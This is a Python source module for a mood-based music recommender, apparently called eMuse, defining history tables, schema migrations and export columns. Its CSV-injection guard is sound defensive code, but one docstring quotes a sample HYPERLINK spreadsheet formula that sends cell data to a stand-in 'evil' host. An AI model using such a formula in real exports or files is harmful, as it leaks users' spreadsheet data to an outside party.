"""The history tables, their version, and the steps that bring an older database forward.

The schema is written once, with portable SQLAlchemy Core types only, so the same
code runs on the default SQLite file and on a shared PostgreSQL server. The
``schema_version`` table holds one row with the version a database is at; each
step in :data:`MIGRATIONS` upgrades from version ``n`` to ``n + 1`` inside the
same transaction that bumps the number, so a crash mid-upgrade leaves the old
version (and its data) intact.

Version history:

1. ``moods`` and ``songs``; every song row was a recommendation.
2. ``songs.event`` (``recommended`` or ``played``), and indexes on time and
   session, which the history page filters by.
3. ``feedback``: a person's 👍/👎 on a song, and "Not right? I'm …" corrections of
   the mood with the classifier's seven scores at that moment (numbers, never a
   picture), from which a session's calibration is fitted.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from sqlalchemy import (
    Column,
    Connection,
    DateTime,
    Float,
    Index,
    Integer,
    MetaData,
    String,
    Table,
    Text,
    inspect,
    text,
)

from emuse.labels import EMOTIONS

SCHEMA_VERSION = 3

#: Where a mood row came from: the webcam stream, a camera snapshot, an uploaded
#: photo or video, or ``python -m emuse analyze --record``.
SOURCES: tuple[str, ...] = ("live", "snapshot", "upload", "cli")

#: What happened to a song: it was shown as a recommendation, or the person played it.
SONG_EVENTS: tuple[str, ...] = ("recommended", "played")

#: What a feedback row says: a song was liked or disliked, or the mood was corrected.
FEEDBACK_KINDS: tuple[str, ...] = ("up", "down", "correction")

#: One column per emotion, in EMOTIONS order, holding the smoothed score (0..1).
SCORE_COLUMNS: tuple[str, ...] = tuple(f"score_{label}" for label in EMOTIONS)

metadata = MetaData()

version_table = Table(
    "schema_version",
    metadata,
    Column("version", Integer, primary_key=True, autoincrement=False),
)

moods = Table(
    "moods",
    metadata,
    Column("id", Integer, primary_key=True),
    # Always UTC. SQLite keeps no zone, PostgreSQL a timestamptz; the store
    # normalises both to aware UTC datetimes when reading.
    Column("time", DateTime(timezone=True), nullable=False),
    Column("session", String(64), nullable=False),
    Column("source", String(16), nullable=False),
    Column("emotion", String(16), nullable=False),
    Column("confidence", Float, nullable=False),
    *(Column(name, Float, nullable=False) for name in SCORE_COLUMNS),
    Index("ix_moods_time", "time"),
    Index("ix_moods_session", "session"),
)

songs = Table(
    "songs",
    metadata,
    Column("id", Integer, primary_key=True),
    Column("time", DateTime(timezone=True), nullable=False),
    Column("session", String(64), nullable=False),
    Column("emotion", String(16), nullable=False),
    Column("track_id", String(64), nullable=False),
    Column("name", Text, nullable=False),
    Column("artists", Text, nullable=False),
    Column("url", Text, nullable=False),
    Column("event", String(16), nullable=False, server_default="recommended"),
    Index("ix_songs_time", "time"),
    Index("ix_songs_session", "session"),
)

feedback = Table(
    "feedback",
    metadata,
    Column("id", Integer, primary_key=True),
    Column("time", DateTime(timezone=True), nullable=False),
    Column("session", String(64), nullable=False),
    Column("feedback", String(16), nullable=False),  # FEEDBACK_KINDS
    # The mood the songs were chosen for (up/down), or the mood eMuse showed (correction).
    Column("emotion", String(16), nullable=False),
    Column("corrected_to", String(16), nullable=False, server_default=""),  # the person's own word
    Column("track_id", String(64), nullable=False, server_default=""),
    Column("name", Text, nullable=False, server_default=""),
    Column("artists", Text, nullable=False, server_default=""),
    Column("url", Text, nullable=False, server_default=""),
    # The classifier's scores when a correction was made (empty for songs).
    *(Column(name, Float, nullable=True) for name in SCORE_COLUMNS),
    Index("ix_feedback_session", "session"),
)

#: Column order used for CSV and JSON exports (moods and songs in one file, told
#: apart by ``kind``), so the command line and the page download agree.
EXPORT_COLUMNS: tuple[str, ...] = (
    "kind",
    "time",
    "session",
    "source",
    "emotion",
    "confidence",
    *SCORE_COLUMNS,
    "track_id",
    "name",
    "artists",
    "url",
    "event",
    "feedback",
    "corrected_to",
)


def _v1_to_v2(conn: Connection) -> None:
    # ALTER TABLE ... ADD COLUMN with a constant default is the one form both
    # SQLite and PostgreSQL accept, and it fills existing rows with the default.
    conn.execute(text("ALTER TABLE songs ADD COLUMN event VARCHAR(16) DEFAULT 'recommended' NOT NULL"))
    for index in (*moods.indexes, *songs.indexes):
        index.create(conn, checkfirst=True)


def _v2_to_v3(conn: Connection) -> None:
    feedback.create(conn, checkfirst=True)  # creates its index too


#: ``MIGRATIONS[n]`` upgrades a database from version ``n`` to ``n + 1``.
MIGRATIONS: dict[int, Callable[[Connection], None]] = {1: _v1_to_v2, 2: _v2_to_v3}


def current_version(conn: Connection) -> int:
    """The version a database is at; 0 for an empty database."""
    if not inspect(conn).has_table(version_table.name):
        return 0
    value = conn.execute(version_table.select().with_only_columns(version_table.c.version)).scalar()
    return int(value or 0)


def upgrade(conn: Connection) -> tuple[int, int]:
    """Create or migrate the schema to :data:`SCHEMA_VERSION`; returns ``(from, to)``.

    Runs inside the caller's transaction. A database from a newer eMuse raises
    ``ValueError``, because writing to a schema we don't know could lose data.
    """
    found = current_version(conn)
    if found > SCHEMA_VERSION:
        raise ValueError(
            f"the history database is at schema version {found}, newer than this eMuse understands "
            f"({SCHEMA_VERSION}); upgrade eMuse or point EMUSE_DATABASE_URL at another database"
        )
    if found == SCHEMA_VERSION:
        return found, found
    if found == 0:
        metadata.create_all(conn, checkfirst=True)
    else:
        for version in range(found, SCHEMA_VERSION):
            MIGRATIONS[version](conn)
    conn.execute(version_table.delete())
    conn.execute(version_table.insert().values(version=SCHEMA_VERSION))
    return found, SCHEMA_VERSION


#: First characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """A text cell that Excel, LibreOffice or Sheets shows as text, never runs as a formula.

    A song named ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(...)`` comes from a
    Spotify playlist anyone can edit, so every exported text cell that starts with one of
    :data:`FORMULA_STARTS` gets a leading apostrophe, as OWASP recommends, and a carriage
    return inside becomes a line feed (quoted by the CSV writer). Numbers are left alone
    (a confidence of -0.5 stays a number).
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        value = "'" + value
    # A bare CR is not quoted by Python's csv writer (its line end is LF) and would split the row.
    return value.replace("\r\n", "\n").replace("\r", "\n")
